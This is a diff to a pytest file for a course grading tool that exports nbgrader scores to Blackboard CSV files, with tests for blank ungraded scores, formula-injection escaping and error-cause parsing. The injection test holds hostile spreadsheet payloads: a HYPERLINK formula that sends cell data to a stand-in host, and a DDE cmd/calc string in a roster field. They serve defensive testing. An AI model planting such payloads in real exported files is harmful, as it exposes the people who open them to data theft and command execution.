@@ -5,6 +5,7 @@ given scores through nbgrader's own API, as autograde, a grader and a late penal
 and `python -m coursepack.grading grades` is run as `make grades` runs it.
 """
 import csv
+import shutil
 import subprocess
 import sys
 
@@ -12,7 +13,7 @@ import nbformat
 import pytest
 from nbgrader.api import Gradebook
 
-from coursepack.grading import classroom, exports
+from coursepack.grading import classroom, exports, grade
 
 
 def meta(grade_id, *, grade=False, solution=False, locked=False, points=None):
@@ -88,7 +89,7 @@ def test_blackboard_file_maps_ids_to_user_names_and_reports_missing_entries(cour
     rows = {row[2]: row for row in read(course / "grades-blackboard.csv")[1:]}
     assert rows == {"ada1": ["Lovelace", "Ada", "ada1", "5", "1.5"],  # 2 + 1 + 2 written; 2 less 0.5 late
                     "bob2": ["Lasts002", "Firsts002", "bob2", "1", "0"],  # names from the gradebook; no practical2
-                    "zed9": ["Z", "Zed", "zed9", "0", "0"]}
+                    "zed9": ["Z", "Zed", "zed9", "", ""]}  # not graded: blank, never a 0 over a real score
     assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
 
 
@@ -112,3 +113,48 @@ def test_a_roster_without_user_names_is_refused(tmp_path):
     bad.write_text("id,name\ns001,Ada\n")
     with pytest.raises(ValueError, match="id and username"):
         exports.rosters.read(bad)
+
+
+def test_no_cell_of_either_file_runs_as_a_formula_and_a_roster_typo_zeroes_nobody(course, tmp_path, monkeypatch):
+    """Red team F6 (formula injection through ids and names) and F7 (a roster id typo wrote 0 for a real student)."""
+    folder = tmp_path / "course"
+    shutil.copytree(course, folder)
+    for name, value in classroom.env(folder).items():
+        monkeypatch.setenv(name, value)
+    evil = '=HYPERLINK("http://evil.example?"&C2,"appeal")'
+    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", "comp3547") as gradebook:
+        gradebook.update_or_create_student(evil)
+        gradebook.update_or_create_submission("practical1", evil)
+    roster = tmp_path / "roster.csv"
+    roster.write_text('id,username,first_name,last_name\ns001,ada1,=1+1,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
+                      "S002,bob2,+Bo,-Ma\n")  # S002: the id typed with a capital
+    result = exports.export(folder, roster=roster)
+    assert result.exit_code == 1
+    rows = {row[2]: row for row in read(folder / "grades-blackboard.csv")[1:]}
+    assert rows["ada1"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "ada1", "5", "1.5"]
+    assert rows["bob2"] == ["'-Ma", "'+Bo", "bob2", "", ""]
+    items = read(folder / "grades-items.csv")
+    students = {row[0] for row in items[1:]}
+    assert f"'{evil}" in students and evil not in students
+    assert not [c for row in items for c in row if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert any("S002 (bob2) is on the roster but not in the gradebook: its scores are left blank" in p.message
+               for p in result.problems), result.problems
+
+
+def test_a_failed_nbgrader_run_is_reported_by_its_exception_not_traceback_header():
+    """Red team F5: the cause recorded was "Traceback (most recent call last):"."""
+    log = ("[INFO] Updating/creating assignment 'practical1'\n"
+           "[ERROR] There was an error processing assignment: /tmp/x\n"
+           "[ERROR] Traceback (most recent call last):\n"
+           '      File "nbgrader/preprocessors/overwritecells.py", line 140, in add_missing_grade_cells\n'
+           "        prev_cell_idx = submitted_cell_idxs[prev_cell_id] + added_count\n"
+           "    KeyError: 'test_add'\n"
+           "    \n"  # nbgrader's log indents a record's further lines by four
+           "[ERROR] There was an error processing assignment 'p1' for student 's001'\n"
+           "[ERROR] Please see the error log for details\n")
+    assert grade._cause({"success": False, "log": log, "error": "Traceback (most recent call last):\n  x\n"
+                                                             "SystemExit: 1\n"}) == "KeyError: 'test_add'"
+    assert grade._cause({"success": False, "error": "Traceback (most recent call last):\n  File x\n"
+                                                    "ValueError: bad cell\n"}) == "ValueError: bad cell"
+    assert grade._cause({"success": False, "log": "[ERROR] No notebooks were matched\n"}) == (
+        "No notebooks were matched")
